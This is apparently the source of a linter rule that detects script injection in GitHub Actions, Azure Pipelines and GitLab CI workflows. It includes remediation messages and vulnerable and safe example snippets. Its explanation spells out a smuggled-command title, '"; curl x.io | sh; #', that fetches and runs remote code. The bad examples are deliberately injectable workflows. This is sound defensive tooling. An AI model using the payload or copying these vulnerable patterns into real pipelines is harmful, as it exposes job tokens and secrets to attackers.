import type { DataNode } from '../../source/content/data-node';
import type { Rule, RuleContext } from '../rule';
import {
  githubWorkflow,
  inputOf,
  openEvent,
  type GitHubWorkflow,
  type WorkflowStep,
} from '../rule-support/pipelines/github-workflow';
import { throughEnvironment } from '../rule-support/pipelines/through-environment';
import { outsiderInScript } from '../rule-support/pipelines/outsider-in-script';
import { outsiderExpressions } from '../rule-support/pipelines/outsider-expression';

/** Inputs that an action runs as a script, by action. */
const SCRIPT_INPUTS: readonly (readonly [RegExp, readonly string[]])[] = [
  [/^actions\/github-script$/u, ['script']],
  [/^appleboy\/ssh-action$/u, ['script']],
  [/^azure\/(?:cli|powershell)$/u, ['inlinescript']],
  [/^(?:nick-fields|nick-invision)\/retry$/u, ['command']],
  [/^addnab\/docker-run-action$/u, ['run']],
  [/^(?:reactivecircus\/android-emulator-runner|jannekem\/run-python-script-action)$/u, ['script']],
  [/^(?:mikefarah\/yq)$/u, ['cmd']],
  [/^cardinalby\/js-eval-action$/u, ['expression']],
];

function check(root: DataNode, context: RuleContext): void {
  for (const { text, range, how } of outsiderInScript(root, context.path)) {
    context.report({
      at: range,
      subject: text,
      severity: 'warning',
      message:
        how === 'replaced'
          ? `\`${text}\` is written by whoever commits or opens the pull request, and becomes part of the script before it runs. Give it to the step in \`env:\` and read the variable, quoted, in the script.`
          : `\`${text}\` runs text that whoever commits or opens the merge request writes as a command. Read the variable, quoted, without evaluating it.`,
    });
  }
  const workflow = githubWorkflow(root, context);
  if (!workflow) return;
  for (const { steps } of workflow.jobs)
    for (const step of steps) {
      if (step.run) checkScript(step.run, 'script', step, workflow, context);
      for (const [action, inputs] of SCRIPT_INPUTS)
        if (action.test(step.action ?? ''))
          for (const name of inputs)
            checkScript(inputOf(step, name), step.action ?? '', step, workflow, context);
    }
}

function checkScript(
  script: DataNode | undefined,
  where: string,
  step: WorkflowStep,
  workflow: GitHubWorkflow,
  context: RuleContext,
): void {
  const reported = new Set<string>();
  for (const { text, range, writer } of outsiderExpressions(script, step, workflow)) {
    if (reported.has(`${text}@${range.start}`)) continue;
    reported.add(`${text}@${range.start}`);
    const isOpen = openEvent(workflow) !== undefined;
    context.report({
      at: range,
      subject: text,
      message:
        writer === 'outsider'
          ? `\`${text}\` is written by whoever opens the request or the issue, and becomes part of the ${where} before it runs. Give it to the step in \`env:\` and write the variable, quoted, in the script.`
          : `\`${text}\` becomes part of the ${where} before it runs, so whoever starts it can add commands. Give it to the step in \`env:\` and write the variable, quoted, in the script.`,
      fixes: script === step.run ? throughEnvironment(text, range, step, context) : [],
      ...(writer === 'caller'
        ? { severity: 'info' as const, confidence: 'probable' as const }
        : isOpen || workflow.isAction
          ? {}
          : { severity: 'warning' as const }),
    });
  }
}

const HEAD = 'on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';

export const rule: Rule = {
  id: 'workflow-script-injection',
  title: 'Text of an outsider becomes part of a workflow script',
  stages: ['continuous-integration', 'pipeline-dev-test', 'llm-release', 'continuous-training'],
  risks: ['owasp-ml-2023:ML06', 'owasp-llm-2026:LLM04', 'owasp-llm-2025:LLM03', 'owasp-agentic-2026:ASI05'],
  cwe: ['CWE-78', 'CWE-94', 'CWE-77'],
  atlas: ['AML.T0010.001', 'AML.T0049'],
  controls: ['C14'],
  severity: 'error',
  preset: 'recommended',
  since: '0.1.0',
  tags: ['ci', 'injection', 'supply-chain'],
  languages: ['yaml'],
  what: 'Finds `${{ … }}` with a title, text, branch name, commit message or comment that an outsider writes, inside `run:` or a script given to an action (`actions/github-script` and others), in GitHub workflows and actions; macros of Azure Pipelines with such text (`$(Build.SourceVersionMessage)`), and variables of GitLab that `eval` or `sh -c` runs; also by way of `${{ env.X }}`. Inputs of who may start the workflow are information. Expressions that only compare or search, and values given through `env:` and read as a shell variable, are left alone.',
  why: 'The expression is replaced before the shell starts, so a title such as `"; curl x.io | sh; #` is a command. It runs with the token and the secrets of the job: keys of model providers, rights to push models and packages.',
  fix: 'Put the value into the environment (`env: TITLE: ${{ github.event.issue.title }}`) and use `"$TITLE"` in the script, or `process.env.TITLE` in JavaScript.',
  references: [
    {
      title: 'GitHub: script injections',
      url: 'https://docs.github.com/en/actions/concepts/security/script-injections',
    },
    {
      title: 'GitHub Security Lab: untrusted input',
      url: 'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    },
  ],
  examples: {
    bad: [
      {
        title: 'Azure Pipelines',
        code: 'steps:\n  - script: echo "$(Build.SourceVersionMessage)"\n  - bash: |\n      set -e\n      git checkout $(System.PullRequest.SourceBranch)\n',
        file: 'azure-pipelines.yml',
        findings: 2,
      },
      {
        title: 'GitLab',
        code: 'train:\n  script:\n    - eval "python train.py $CI_COMMIT_MESSAGE"\n    - bash -c "echo ${CI_MERGE_REQUEST_TITLE}"\n',
        file: '.gitlab-ci.yml',
        findings: 2,
      },
      {
        title: 'a title',
        code: `${HEAD}      - run: echo "\${{ github.event.issue.title }}"\n`,
        file: '.github/workflows/a.yml',
      },
      {
        title: 'a block with two of them',
        code: `${HEAD}      - name: x\n        run: |\n          echo start\n          git checkout \${{ github.head_ref }}\n          echo '\${{github.event.comment.body}}' > c.txt\n`,
        file: '.github/workflows/a.yml',
        findings: 2,
      },
      {
        title: 'a script of an action',
        code: `${HEAD}      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log("\${{ github.event.pull_request.body }}")\n`,
        file: '.github/workflows/a.yml',
      },
      {
        title: 'by way of the environment, put in again',
        code: `${HEAD}      - run: echo "\${{ env.TITLE }}"\n        env:\n          TITLE: \${{ github.event.pull_request.title }}\n`,
        file: '.github/workflows/a.yml',
      },
      {
        title: 'in a function and with a default',
        code: `${HEAD}      - run: |\n          A="\${{ format('x {0}', github.event.review.body) }}"\n          B="\${{ github.head_ref || github.ref_name }}"\n          C='\${{ toJSON(github.event) }}'\n          D="\${{ github.event['pull_request']['head']['ref'] }}"\n`,
        file: '.github/workflows/a.yml',
        findings: 4,
      },
      {
        title: 'what a commit says',
        code: 'on: [push]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.head_commit.message }}\n      - run: echo ${{ github.event.commits[0].author.name }}\n',
        file: '.github/workflows/a.yaml',
        findings: 2,
      },
      {
        title: 'a run that another started',
        code: 'on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git fetch origin ${{ github.event.workflow_run.head_branch }}\n',
        file: '.github/workflows/a.yml',
      },
      {
        title: 'inputs (information)',
        code: 'on:\n  workflow_dispatch:\n    inputs:\n      model: { type: string }\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: python train.py --model ${{ inputs.model }}\n      - run: python train.py --model ${{ github.event.inputs.model }}\n',
        file: '.github/workflows/a.yml',
        findings: 2,
      },
      {
        title: 'an action',
        code: 'name: x\ninputs:\n  model: { required: true }\nruns:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.model }} ${{ github.head_ref }}\n      shell: bash\n',
        file: 'action.yml',
        findings: 2,
      },
    ],
    good: [
      {
        title: 'other values of Azure Pipelines',
        code: 'steps:\n  - script: echo $(Build.BuildId) "$MESSAGE"\n    env:\n      MESSAGE: $(Build.SourceVersionMessage)\n',
        file: 'azure-pipelines.yml',
      },
      {
        title: 'variables of GitLab that are only read',
        code: 'train:\n  script:\n    - echo "$CI_COMMIT_MESSAGE"\n    - eval "$(ssh-agent -s)"\n    - python train.py --branch "$CI_COMMIT_BRANCH"\n',
        file: '.gitlab-ci.yml',
      },
      {
        title: 'through the environment',
        code: `${HEAD}      - run: echo "$TITLE"\n        env:\n          TITLE: \${{ github.event.issue.title }}\n`,
        file: '.github/workflows/a.yml',
      },
      {
        title: 'numbers, hashes and names that GitHub makes',
        code: `${HEAD}      - run: gh pr view \${{ github.event.pull_request.number }} && echo \${{ github.sha }} \${{ github.event.pull_request.head.sha }} \${{ github.repository }} \${{ github.actor }}\n`,
        file: '.github/workflows/a.yml',
      },
      {
        title: 'only compared',
        code: `${HEAD}      - if: contains(github.event.comment.body, '/train')\n        run: |\n          echo \${{ contains(github.event.comment.body, '/gpu') }}\n          echo \${{ github.event.issue.title == 'x' }}\n          echo \${{ github.head_ref && 'pr' || 'main' }}\n          echo \${{ startsWith(github.head_ref, 'release/') && 'release' || 'dev' }}\n`,
        file: '.github/workflows/a.yml',
      },
      {
        title: 'given to an action as data',
        code: `${HEAD}      - uses: actions/github-script@v7\n        env:\n          BODY: \${{ github.event.issue.body }}\n        with:\n          script: console.log(process.env.BODY)\n      - uses: acme/label@v1\n        with:\n          title: \${{ github.event.issue.title }}\n`,
        file: '.github/workflows/a.yml',
      },
      {
        title: 'inputs that are chosen from a list',
        code: 'on:\n  workflow_dispatch:\n    inputs:\n      size: { type: choice, options: [s, l] }\n      dry: { type: boolean }\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: python train.py --size ${{ inputs.size }} --dry ${{ github.event.inputs.dry }}\n',
        file: '.github/workflows/a.yml',
      },
      {
        title: 'another place than a workflow',
        code: `${HEAD}      - run: echo "\${{ github.event.issue.title }}"\n`,
        file: 'docs/a.yml',
      },
    ],
  },
  on: { data: check },
};
